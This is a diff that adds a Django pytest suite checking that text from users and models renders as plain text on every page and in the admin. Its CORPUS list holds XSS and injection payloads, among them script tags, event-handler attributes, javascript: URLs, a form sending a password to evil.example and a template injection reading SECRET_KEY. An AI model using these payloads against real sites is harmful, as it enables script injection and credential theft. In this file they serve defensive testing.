@@ -1,0 +1,251 @@
+"""What strangers and models write stays text: on every page and in the admin, whatever field it came by (G2)."""
+
+from html.parser import HTMLParser
+
+import pytest
+from django.urls import reverse
+
+from content import answering, rendering
+from content.answers import url_problem
+from content.models import Tutorial
+from roadmaps import starting
+from roadmaps.models import Concept, Feedback, LogEntry, ModelCall, Roadmap, Step
+from tests.content.test_rendering import HOSTILE, SCHEMES, seen
+from tests.factories import (
+    make_feedback,
+    make_log_entry,
+    make_quiz,
+    make_resources,
+    make_review,
+    make_revision,
+    make_roadmap,
+    make_step,
+    make_tree,
+    make_tutorial,
+    make_user,
+    make_written_roadmap,
+)
+
+pytestmark = pytest.mark.django_db
+
+PLAIN = "Plain words"
+TEXT_ELEMENTS = {"br", "p"}  # what lines become
+LINKS = ("href", "src", "action", "formaction", "data", "poster", "xlink:href")
+
+
+EXPECTED: dict[str, dict[str, "Skeleton"]] = {}  # of the pages where all words are plain, made once
+
+
+class Skeleton(HTMLParser):
+    """A page's elements with the names of their attributes, and where its links lead."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, tuple[str, ...]]] = []
+        self.links: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        if tag not in TEXT_ELEMENTS:
+            self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))
+        self.links += [value or "" for name, value in attrs if name in LINKS]
+
+
+class Everything:
+    """One roadmap in review and one that is written, of one owner, with the same words in every field that has any."""
+
+    def __init__(self, owner, words: str) -> None:
+        self.words, self.line = words, words[:200]
+        self.owner = owner
+        self.review = self._tree(make_roadmap(owner=owner, goal="g", state=Roadmap.State.IN_REVIEW))
+        self.written = self._tree(make_written_roadmap(owner=owner, state=Roadmap.State.PARTLY_READY, concepts=1))
+        self._review()
+        self._pieces()
+
+    def _tree(self, roadmap: Roadmap) -> Roadmap:
+        if not roadmap.concepts.exists():
+            make_tree(roadmap=roadmap, concepts=1)
+        texts = ("goal", "motivation", "background", "rationale", "notice")
+        lines = {"title": self.line, "origin": self.line, "language": self.words[:40]}
+        Roadmap.objects.filter(pk=roadmap.pk).update(**dict.fromkeys(texts, self.words), **lines)
+        for parts in (roadmap.stages, roadmap.concepts):
+            parts.update(name=self.line, description=self.words)
+        roadmap.stages.get().modules.update(name=self.line, description=self.words)
+        Concept.objects.filter(roadmap=roadmap).update(keywords=[self.words])
+        make_log_entry(roadmap=roadmap, event=self.words[:100], message=self.words, details={self.words: self.words})
+        ModelCall.objects.create(
+            roadmap=roadmap,
+            purpose="quiz",
+            provider="p",
+            model=self.words[:100],
+            outcome="x",
+            latency=1,
+            error=self.words,
+        )
+        roadmap.refresh_from_db()
+        return roadmap
+
+    def _review(self) -> None:
+        revision = make_revision(roadmap=self.review, number=2, reason=self.words)
+        issue = {"severity": "critical", "location": self.words, "issue": self.words, "suggestion": self.words}
+        advice = {"location": self.words, "content": self.words, "reason": self.words}
+        score = {"structure": {"score": 5, "reason": self.words}}
+        make_review(revision=revision, issues=[issue], suggestions=[advice], scores=score, origin=self.line)
+        state = Feedback.State.QUESTION
+        make_feedback(roadmap=self.review, text=self.words, answer=self.words, questions=[self.words], state=state)
+
+    def _pieces(self) -> None:
+        self.concept = self.written.concepts.get()
+        self.written.steps.filter(kind="quiz").update(state=Step.State.FAILED, last_error=self.words, wish=self.words)
+        make_step(roadmap=self.written, kind=Step.Kind.ANALYSE, state="failed", last_error=self.words)
+        lines = {"title": self.line, "summary": self.words[:300], "origin": self.line, "wish": self.words}
+        self.tutorial = make_tutorial(concept=self.concept, markdown=self.words, **lines)
+        resources = {"title": self.line, "description": self.words, "language": self.words[:40]}
+        make_resources(concept=self.concept, note=self.words, count=1, **resources)
+        asked = [("single_choice", self.words, [self.words, self.words + "!"], [0], self.words)]
+        self.attempt = answering.answer(make_quiz(concept=self.concept, questions=asked), user=self.owner, submitted={})
+
+    def paths(self) -> dict[str, str]:
+        concept = [self.written.slug, self.concept.key]
+        quiz = reverse("content:quiz", args=concept)
+        return {
+            "list": "/",
+            "review": self.review.get_absolute_url(),
+            "progress": reverse("roadmaps:progress", args=[self.review.slug]),
+            "written": self.written.get_absolute_url(),
+            "log": reverse("roadmaps:log", args=[self.written.slug]),
+            "concept": reverse("content:concept", args=concept),
+            "pieces": reverse("content:pieces", args=concept),
+            "quiz": quiz,
+            "result": f"{quiz}?attempt={self.attempt.pk}",
+        }
+
+    def admin_paths(self) -> dict[str, str]:
+        rows = [
+            self.written,
+            self.written.stages.get(),
+            self.written.stages.get().modules.get(),
+            self.concept,
+            self.review.revisions.get(),
+            self.review.revisions.get().review,
+            self.review.feedback.get(),
+            self.written.steps.get(kind="quiz"),
+            LogEntry.objects.first(),
+            ModelCall.objects.first(),
+            self.tutorial,
+            self.concept.resourcelist_versions.get(),
+            self.concept.resourcelist_versions.get().resources.get(),
+            self.attempt.quiz,
+            self.attempt.quiz.questions.get(),
+            self.attempt,
+        ]
+        names = {f"{row._meta.app_label}_{row._meta.model_name}": row.pk for row in rows}
+        lists = {name: reverse(f"admin:{name}_changelist") for name in names}
+        pages = {f"{name} {page}": reverse(f"admin:{name}_{page}", args=[pk]) for name, pk in names.items() for page in
+                 ("change", "delete")}  # fmt: skip
+        return lists | pages
+
+    def skeleton(self, client, path: str) -> Skeleton:
+        """Without the tutorial's own elements, which the allow-list of its renderer judges."""
+        response = client.get(path)
+        assert response.status_code == 200, path
+        return Skeleton(response.content.decode().replace(self.tutorial.html, ""))
+
+
+def same_skeletons(client, owner, words: str, which: str) -> None:
+    if which not in EXPECTED:
+        plain = Everything(owner, PLAIN)
+        EXPECTED[which] = {name: plain.skeleton(client, path) for name, path in getattr(plain, which)().items()}
+        Roadmap.objects.all().delete()
+        ModelCall.objects.all().delete()
+    hostile = Everything(owner, words)
+    for name, path in getattr(hostile, which)().items():
+        found = hostile.skeleton(client, path)
+        assert found.elements == EXPECTED[which][name].elements, name
+        wrong = [link for link in found.links if link and not link.lower().startswith((*SCHEMES, "?", ".."))]
+        assert [link for link in wrong if not link[0].isalnum() or ":" in link] == [], name
+    seen(words)
+    assert hostile.tutorial.html == rendering.to_html(words)
+
+
+CORPUS = [text for each in HOSTILE if (text := each.replace("\x00", "")).strip()] + [
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><img src=x onerror=alert(1)>",
+    "</p></article></main><form action=//evil.example><input name=password>",
+    "\"><img src=x onerror=alert(1)>",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=\"alert(1)",
+    "'\"><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=x><use xlink:href=\"data:x\"/></svg>",
+    "<html xmlns:on=x><on:script>alert(1)</on:script>",
+    "＜script＞alert(1)＜/script＞",
+    "<ſcript>alert(1)</ſcript>",
+    "<script\u2028>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "<a href=\"\u2001javascript:alert(1)\">x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext>",
+    "<!DOCTYPE html><html onload=alert(1)>",
+    "<div hx-get=//evil.example hx-trigger=load>",
+    "<input type=image src=x onerror=alert(1)>",
+    "{% debug %}{{ settings.SECRET_KEY }}",
+]  # fmt: skip
+
+
+@pytest.fixture
+def owner(client):
+    user = make_user(username="ada", is_staff=True, is_superuser=True)
+    client.force_login(user)
+    return user
+
+
+def test_the_corpus_is_large():
+    assert len(set(CORPUS)) >= 90
+
+
+@pytest.mark.parametrize("words", CORPUS)
+def test_G2_no_element_and_no_attribute_comes_from_what_somebody_wrote(client, owner, words):
+    same_skeletons(client, owner, words, "paths")
+
+
+@pytest.mark.parametrize("start", range(0, len(CORPUS), 12))
+def test_G2_nor_in_the_admin(client, owner, start):
+    same_skeletons(client, owner, "\n\n".join(CORPUS[start : start + 12]), "admin_paths")
+
+
+@pytest.mark.parametrize("words", CORPUS[::6])
+def test_G2_a_goal_is_shown_as_it_was_typed(client, owner, words, library):
+    """By the real way in, and back into the form where it is refused."""
+    plain = Skeleton(client.post("/new/", {"goal": PLAIN}).content.decode())
+    refused = Skeleton(client.post("/new/", {"goal": words}).content.decode())
+    roadmap = starting.start(owner=owner, goal=words)
+
+    assert refused.elements == plain.elements
+    assert roadmap.goal == " ".join(words.split())
+    assert "<script" not in client.get(roadmap.get_absolute_url()).content.decode().partition("</head>")[2]
+
+
+@pytest.mark.parametrize("url", [each for each in CORPUS if "http" not in each and "mailto" not in each])
+def test_G2_nothing_hostile_is_a_resources_address(url):
+    assert url_problem(url)
+
+
+def test_G2_an_editor_cannot_save_what_is_active(client, owner):
+    tutorial = Everything(owner, PLAIN).tutorial
+
+    client.post(
+        reverse("admin:content_tutorial_change", args=[tutorial.pk]),
+        {"title": "t", "summary": "s", "minutes": 5, "markdown": "\n\n".join(CORPUS)},
+    )
+
+    edited = Tutorial.objects.current().get()
+    assert edited.version == 2
+    assert edited.html == rendering.to_html(edited.markdown)
+    seen(edited.markdown)
